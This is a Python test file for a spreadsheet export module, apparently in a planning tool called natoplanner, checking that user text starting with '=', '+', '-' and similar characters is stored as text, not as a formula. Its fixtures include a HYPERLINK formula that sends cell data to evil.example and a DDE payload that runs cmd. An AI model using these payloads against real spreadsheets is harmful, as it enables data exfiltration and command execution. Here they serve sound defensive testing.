"""Text a user typed is stored as text, never as a formula (formula injection)."""

from __future__ import annotations

import re
import zipfile

import openpyxl
import pytest

from natoplanner.core.scenario import Scenario
from natoplanner.io.workbook.cell_text import escape_text, unescape_text
from natoplanner.io.workbook.files import read_scenario, save_scenario

PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"click")'
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("trigger", TRIGGERS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_text_starting_with_a_formula_trigger_stays_text(tmp_path, dataset, trigger):
    scenario = Scenario(dataset, name=trigger + PAYLOAD)
    scenario.notes = trigger + "cmd|' /C calc'!A0"
    path = tmp_path / "scenario.xlsx"
    save_scenario(scenario, path)

    with zipfile.ZipFile(path) as archive:
        formulas = " ".join(
            " ".join(re.findall(r"<f>(.*?)</f>", archive.read(name).decode("utf-8")))
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )
    assert "HYPERLINK" not in formulas and "calc" not in formulas

    workbook = openpyxl.load_workbook(path)
    name_cells = [
        workbook["About"]["B3"],
        workbook["Assumptions"]["C3"],
        workbook["Assumptions"]["C4"],
    ]
    for cell in name_cells:
        assert cell.data_type == "s", cell.coordinate
    assert unescape_text(workbook["Assumptions"]["C3"].value) == trigger + PAYLOAD
    if trigger in "=+-@":
        assert workbook["Assumptions"]["C3"].quotePrefix  # Excel's "typed as text" marker
    loaded = read_scenario(path)
    assert loaded.scenario.name == scenario.name and loaded.scenario.notes == scenario.notes


def test_escape_keeps_control_characters_and_literal_escapes():
    for text in ["\rline", "a\x01b", "_x000D_ literal", "tab\there", "plain"]:
        stored = escape_text(text)
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0d\x0e-\x1f]", stored)
        assert unescape_text(stored) == text
